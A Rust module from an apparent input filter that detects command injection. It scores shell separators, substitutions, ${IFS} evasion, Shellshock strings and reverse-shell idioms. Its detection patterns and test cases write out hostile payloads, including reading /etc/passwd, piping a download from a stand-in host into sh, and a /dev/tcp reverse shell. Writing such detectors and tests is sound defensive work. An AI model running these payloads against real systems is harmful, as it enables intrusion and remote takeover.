//! Command injection: a command where a shell would start one.
//!
//! Sees commands behind separators, substitutions and line ends, blanks written
//! as `${IFS}`, reverse shells, functions smuggled through the environment
//! (CVE-2014-6271). A shell script posted as a document is content; the same
//! line as the whole of a short value is not.

use super::evidence::{Evidence, Strongest, Texture};
use crate::text::cursor::{each_of_ci, find_ci};
use crate::text::shell::{Argument, Command, Invocation, Mark, each_invocation};

/// The strongest evidence in `text`; `idiomatic` when a word of an idiom occurs.
pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<Evidence> {
    let mut best = Strongest::default();
    let mut lists = None;
    each_invocation(text, &mut |found| {
        if let Some((code, score)) = judge(&found, texture) {
            let score = if is_item(text, &found, &mut lists) {
                score.min(3500)
            } else {
                score
            };
            best.add(Evidence::new(code, score, found.start, found.end));
        }
    });
    if idiomatic {
        idioms(text, texture, &mut best);
    }
    best.0
}

/// So many separators of one kind make a list.
const LIST: usize = 6;

/// A word without arguments in a list, as in `a|sort|b|date|c`, is an item of
/// it. What the text is a list by is counted once, into `lists`.
fn is_item(text: &[u8], found: &Invocation, lists: &mut Option<[bool; 3]>) -> bool {
    const SEPARATORS: [u8; 3] = [b';', b'|', b'&'];
    if found.mark != Mark::Separator || found.disguised {
        return false;
    }
    if !matches!(found.argument, Argument::None) {
        return false;
    }
    let counted = lists.get_or_insert_with(|| {
        SEPARATORS.map(|separator| {
            let mut places = text.iter().filter(|b| **b == separator);
            places.nth(LIST.saturating_sub(1)).is_some()
        })
    });
    let here = text.get(found.start);
    SEPARATORS
        .iter()
        .zip(counted)
        .any(|(separator, list)| *list && here == Some(separator))
}

fn judge(found: &Invocation, texture: Texture) -> Option<(&'static str, u16)> {
    use Argument::{Flag, None as Nothing, Technical, Word};
    let (code, in_place, in_sentence) = match (found.mark, found.command, found.argument) {
        (Mark::Separator, Command::Plain, Flag | Technical) => {
            ("shield.rce.separator", 8800_u16, 8000_u16)
        }
        (Mark::Separator, Command::Plain, Nothing) => ("shield.rce.separator", 8200, 6500),
        (Mark::Separator, Command::Plain, Word) => ("shield.rce.separator", 7500, 3500),
        (Mark::Separator, Command::Common, Flag | Technical) => {
            ("shield.rce.separator", 8000, 6000)
        }
        (Mark::Separator, Command::Common, Nothing) => ("shield.rce.separator", 6500, 3500),
        (Mark::Separator, Command::Common, Word) => ("shield.rce.separator", 3500, 1500),
        (Mark::Substitution, Command::Plain, Flag | Technical | Nothing) => {
            ("shield.rce.substitution", 8500, 4500)
        }
        (Mark::Substitution, Command::Plain, Word) => ("shield.rce.substitution", 6500, 3000),
        (Mark::Substitution, Command::Common, Flag | Technical) => {
            ("shield.rce.substitution", 7500, 3500)
        }
        (Mark::Substitution, Command::Common, Nothing) => ("shield.rce.substitution", 5500, 3000),
        (Mark::Line, Command::Plain, Flag | Technical | Nothing) => ("shield.rce.line", 7500, 3500),
        (Mark::Line, Command::Common, Flag | Technical) => ("shield.rce.line", 6000, 3000),
        (Mark::Line, Command::Common, Nothing) if found.disguised || texture.words <= 3 => {
            ("shield.rce.line", 6000, 2500)
        }
        (Mark::Start, Command::Plain, Flag) => ("shield.rce.command", 5500, 5500),
        _ => return None,
    };
    let hidden = if found.disguised { 800 } else { 0 };
    let score = if found.bare { in_place } else { in_sentence };
    Some((
        code,
        texture.weigh(score.saturating_add(hidden).min(9500), 3500, 2000),
    ))
}

/// Things that are written for no other purpose: needle, code, belief in a
/// short value and in a text.
const IDIOMS: [(&[u8], &str, u16, u16); 13] = [
    (b"() {", "shield.rce.shellshock", 9500, 3000),
    (b"(){:;}", "shield.rce.shellshock", 9800, 5000),
    (b"${ifs}", "shield.rce.substitution", 9300, 4000),
    (b"$ifs", "shield.rce.substitution", 8500, 3500),
    (b"/dev/tcp/", "shield.rce.reverse", 9500, 4500),
    (b"/bin/sh", "shield.rce.command", 8000, 2500),
    (b"/bin/bash", "shield.rce.command", 8000, 2500),
    (b"/bin/cat ", "shield.rce.command", 8500, 2500),
    (b"/bin/ls", "shield.rce.command", 7500, 2500),
    (b"cmd.exe", "shield.rce.command", 8000, 2500),
    (b"cmd /c", "shield.rce.command", 8000, 2500),
    (b"powershell -", "shield.rce.command", 8500, 2500),
    (b"powershell.exe", "shield.rce.command", 8000, 2500),
];

fn idioms(text: &[u8], texture: Texture, best: &mut Strongest) {
    batch(text, texture, best);
    let runs = text.contains(&b'}') && text.contains(&b';');
    each_of_ci(text, &IDIOMS.map(|idiom| idiom.0), &mut |index, at| {
        let Some((needle, code, score, in_text)) = IDIOMS.get(index).copied() else {
            return;
        };
        // `() {` alone is an empty function; with a command behind `;` it is not
        if needle == b"() {" && !(at < 4 && runs) {
            return;
        }
        // a shell's name alone is a setting
        let score = if text.trim_ascii().len() == needle.len() && needle.starts_with(b"/") {
            4500
        } else {
            score
        };
        let score = texture.weigh(score, in_text, in_text.min(3000));
        best.add(Evidence::new(
            code,
            score,
            at,
            at.saturating_add(needle.len()),
        ));
    });
}

/// `for %x in (…) do …`, `if exist x y` of `cmd.exe` as the whole of a value.
fn batch(text: &[u8], texture: Texture, best: &mut Strongest) {
    let head = text.get(..text.len().min(160)).unwrap_or_default();
    let has = |needle| find_ci(head, needle).is_some();
    let loops = find_ci(head, b"for ").is_some_and(|start| start < 4)
        && head.contains(&b'%')
        && (has(b" in (") || has(b" in("))
        && has(b"do ");
    if loops {
        best.add(Evidence::new(
            "shield.rce.command",
            texture.weigh(7000, 2500, 1500),
            0,
            text.len(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(text: &str) -> u16 {
        let texture = super::super::gate::scan(text.as_bytes()).texture;
        find_in(text.as_bytes(), true, texture).map_or(0, |e| e.score)
    }

    #[test]
    fn commands_that_are_run() {
        for text in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "$(whoami)",
            "`uname -a`",
            "a&&curl http://e.example/x|sh",
            "() { :;}; /bin/ls",
            "x\nwhoami",
            ";cat${IFS}x",
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        ] {
            assert!(score(text) >= 5000, "{text}");
        }
    }

    #[test]
    fn prose_and_queries() {
        for text in [
            "Tom & Jerry; cats and dogs",
            "a | b | c",
            "Find out more; sort by date; then echo it",
            "/x?id=1&type=2&sort=name",
            "$(document).ready(function() { x(); })",
            "price|sort|cat|date|start|end|zip|x",
            "ann;cat;red;sort;big;zip;new;date",
        ] {
            assert!(score(text) < 5000, "{text}");
        }
    }
}
